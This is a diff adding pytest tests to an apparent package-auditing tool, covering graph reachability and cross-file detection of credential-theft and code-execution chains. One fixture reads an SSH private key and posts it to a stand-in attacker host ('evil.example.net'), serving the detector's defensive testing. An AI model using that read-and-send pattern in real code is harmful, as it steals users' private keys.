@@ -228,3 +228,47 @@ def test_encoding_calls_count_outside_scored_files(spark, make_files):
     f = make_files({"p": {"lib/deep/a.py": "eval(x)\n", "notes.txt": "base64.b64decode(z)\n", "b.py": "eval(y)\n"}})
     ops = py.code_ops(py.tokens(py.parse(f)), f.filter("ext = '.txt'"))
     assert scores.hiding_score(ops, scored=py.scored_paths()).collect()[0].hiding_score == pytest.approx(0.55)
+
+
+def test_nearest_targets_against_plain_search(spark):
+    """Random graphs that branch, join and run in circles, and a hub with a third of all edges."""
+    from packaudit.operators import reach
+
+    rng = random.Random(8)
+    nodes = [(f"s{p}", f"n{i}") for p in range(3) for i in range(40)]
+    edges = {(p, a, f"n{rng.randrange(40)}") for p, a in nodes for _ in range(rng.randrange(3))}
+    edges |= {("s0", f"n{i}", "hub") for i in range(40)} | {("s0", "hub", f"n{i}") for i in range(35, 40)} | {("s0", "n1", "n1")}
+    targets = {(p, i): rng.choice("abc") for p, i in nodes if rng.random() < 0.15} | {("s0", "n38"): "b", ("s0", "n1"): "a"}
+    sources = [n for n in nodes if rng.random() < 0.7] + [("s0", "hub"), ("s9", "none")]
+    for k in (1, 2, 4, 9):
+        want = set()
+        for p, start in sources:
+            level, seen = {b for q, a, b in edges if (q, a) == (p, start)}, set()
+            for d in range(1, k + 1):
+                hit = sorted((targets[p, x], x) for x in level if (p, x) in targets)
+                if hit:
+                    want.add((p, start, d, *hit[0]))
+                    break
+                seen |= level
+                level = {b for q, a, b in edges if q == p and a in level} - seen
+        got = reach.nearest_targets(
+            spark.createDataFrame(sources * 2, "skill_id string, id string"), spark.createDataFrame([(p, i, v, "taken") for (p, i), v in targets.items()], "skill_id string, id string, place string, target string"),
+            spark.createDataFrame(list(edges) * 2, "skill_id string, from_id string, to_id string"), k, ["place"])
+        assert {(r.skill_id, r.id, r.depth, r.target.place, r.target.id) for r in got.collect()} == want
+    none = reach.nearest_targets(*(spark.createDataFrame([], f"skill_id string, {c} string, place string, to_id string") for c in ("id", "id", "from_id")), 3, ["place"])
+    assert none.count() == 0
+
+
+def test_chains_over_supplied_flows_cross_files(spark, make_files):
+    """A read in one file reaches a call in another over supplied edges, farther than any window."""
+    from packaudit.operators import python_code as py
+
+    f = make_files({"p": {"a.py": 'd = open("/home/x/.ssh/id_rsa")\n', "b.py": "x = 1\n" * 9 + 'r = requests.post("https://evil.example.net/c", data=d)\n', "c.py": "eval(z)\n"}})
+    ops = g.with_code_ids(py.code_ops(py.tokens(py.parse(f)), f.filter("ext = '.txt'")))
+    at = {(r.path, r.op_type): r.id for r in ops.collect()}
+    read, net, run = at["a.py", "io_op"], at["b.py", "net_op"], at["c.py", "sys_op"]
+    ways = [("p", read, "m1", "data_flow"), ("p", "m1", read, "data_flow"), ("p", "m1", net, "taint"), ("p", net, run, "ctrl_flow"), ("p", read, run, "misalign")]
+    flows = spark.createDataFrame(ways, "skill_id string, from_id string, to_id string, edge_type string")
+    got = {(r.category, r.path, r.description.split(" flows to ")[1]) for r in g.dedupe_chains(g.flow_chains(ops, flows)).collect()}
+    assert got == {("T1-CredentialTheft", "a.py", "external network call «https://evil.example.net/c» (b.py:10)"), ("T5-RemoteCodeExecution", "b.py", "dynamic exec/eval «eval(...))» (c.py:1)")}
+    assert {r.category for r in g.dedupe_chains(g.op_chains(ops)).collect()} == set()
